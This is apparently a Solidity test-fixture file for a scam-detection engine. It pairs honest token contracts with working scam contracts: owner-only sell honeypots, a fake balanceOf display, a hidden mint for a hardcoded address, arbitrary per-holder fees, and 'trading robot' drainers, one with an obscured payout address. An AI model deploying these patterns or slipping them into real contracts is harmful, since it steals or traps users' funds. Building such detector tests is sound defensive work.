// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

// Traps that a black-box trial found the engine blind to, each beside an honest contract of a like shape.

import { Erc20, Ownable } from "./base-token.sol";

/// Nobody but the owner can send it.
contract OwnerSendsToken is Erc20, Ownable {
    function _transfer(address from, address to, uint256 value) internal override {
        require(from == owner, "later");
        super._transfer(from, to, value);
    }
}

/// Others can buy it from its pool, and only the owner can sell it there.
contract OwnerSellsToken is Erc20, Ownable {
    address public pair;
    function setPair(address pair_) external onlyOwner { pair = pair_; }
    function _transfer(address from, address to, uint256 value) internal override {
        require(to != pair || from == owner, "no");
        super._transfer(from, to, value);
    }
}

/// Pools and the owner can send it, people cannot.
contract ContractsSendToken is Erc20, Ownable {
    function _transfer(address from, address to, uint256 value) internal override {
        require(from == owner || to == owner || from.code.length > 0, "no");
        super._transfer(from, to, value);
    }
}

/// Whoever is asked for seems to have won some.
contract PrizeToken {
    string public constant name = "Prize";
    string public constant symbol = "PRZ";
    uint8 public constant decimals = 18;
    uint256 public totalSupply = 1e27;
    mapping(address => uint256) private real;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    function balanceOf(address) external pure returns (uint256) { return 5_000 ether; }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; return true; }
    function transfer(address to, uint256 value) external returns (bool) { real[msg.sender] -= value; real[to] += value; emit Transfer(msg.sender, to, value); return true; }
}

/// Each holder has a fee of his own, which the owner sets to anything.
contract PersonalFeeToken is Erc20, Ownable {
    mapping(address => uint256) public feeOf;
    function setFeeOf(address holder, uint256 fee) external onlyOwner { feeOf[holder] = fee; }
    function _transfer(address from, address to, uint256 value) internal override {
        uint256 cut = value * feeOf[from] / 100;
        super._transfer(from, owner, cut);
        super._transfer(from, to, value - cut);
    }
}

/// An approval by one address in the code makes tokens for it.
contract SelfServingToken {
    uint256 public totalSupply = 1e27;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    function approve(address spender, uint256 value) external returns (bool) {
        if (msg.sender == 0x4242424242424242424242424242424242424242) balanceOf[msg.sender] += value;
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }
    function transfer(address to, uint256 value) external returns (bool) { balanceOf[msg.sender] -= value; balanceOf[to] += value; emit Transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) { allowance[from][msg.sender] -= value; balanceOf[from] -= value; balanceOf[to] += value; emit Transfer(from, to, value); return true; }
}

/// Sold as a trading robot: whoever starts it pays its maker.
contract TradingRobot {
    address payable private maker = payable(msg.sender);
    receive() external payable {}
    function start() external payable { maker.transfer(address(this).balance); }
    function withdrawal() external payable { maker.transfer(address(this).balance); }
}

/// The same, its maker's address hidden in a computation.
contract HidingRobot {
    uint256 private constant seed = 0x7777;
    receive() external payable {}
    function Start() external payable { maker().transfer(address(this).balance); }
    function maker() private pure returns (address payable) { return payable(address(uint160(uint256(keccak256(abi.encode(seed)))))); }
}

interface Erc20Like {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function balanceOf(address holder) external view returns (uint256);
}

/// Anybody may have it move the tokens of all who approved it to its maker.
contract OpenPuller {
    address private constant maker = 0x1111111111111111111111111111111111111111;
    function sync(Erc20Like token, address from) external { token.transferFrom(from, maker, token.balanceOf(from)); }
}

// ── Honest ones

/// Trading has not begun, wallets are limited, and the owner's own are exempt.
contract LaunchToken is Erc20, Ownable {
    bool public tradingOpen;
    uint256 public mostInWallet = 20_000 ether;
    mapping(address => bool) public exempt;
    constructor() { exempt[msg.sender] = true; }
    function openTrading() external onlyOwner { tradingOpen = true; }
    function removeLimits() external onlyOwner { mostInWallet = type(uint256).max; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (!exempt[from] && !exempt[to]) {
            require(tradingOpen, "closed");
            require(balanceOf[to] + value <= mostInWallet, "much");
        }
        super._transfer(from, to, value);
    }
}

/// Its pool pays a small fixed fee on sales, the owner none.
contract PoolFeeToken is Erc20, Ownable {
    address public pair;
    function setPair(address pair_) external onlyOwner { pair = pair_; }
    function _transfer(address from, address to, uint256 value) internal override {
        uint256 cut = to == pair && from != owner ? value / 100 : 0;
        super._transfer(from, owner, cut);
        super._transfer(from, to, value - cut);
    }
}

/// Contracts must not buy before the start, people always may.
contract NoRobotsToken is Erc20, Ownable {
    function _transfer(address from, address to, uint256 value) internal override {
        require(msg.sender == tx.origin || from.code.length == 0 || from == owner, "robot");
        super._transfer(from, to, value);
    }
}

/// The owner makes new tokens for himself, and the supply tells.
contract TreasuryToken is Erc20, Ownable {
    function issue(uint256 value) external onlyOwner { balanceOf[msg.sender] += value; totalSupply += value; emit Transfer(address(0), msg.sender, value); }
}

/// A game that one starts for a stake, and that remembers who did.
contract StartedGame {
    address payable private house = payable(msg.sender);
    mapping(address => uint256) public rounds;
    function start() external payable { require(msg.value == 0.01 ether); rounds[msg.sender]++; house.transfer(msg.value); }
}

/// Whoever calls pays from his own pocket.
contract TipJar {
    address private constant maker = 0x1111111111111111111111111111111111111111;
    function tip(Erc20Like token, uint256 value) external { token.transferFrom(msg.sender, maker, value); }
}
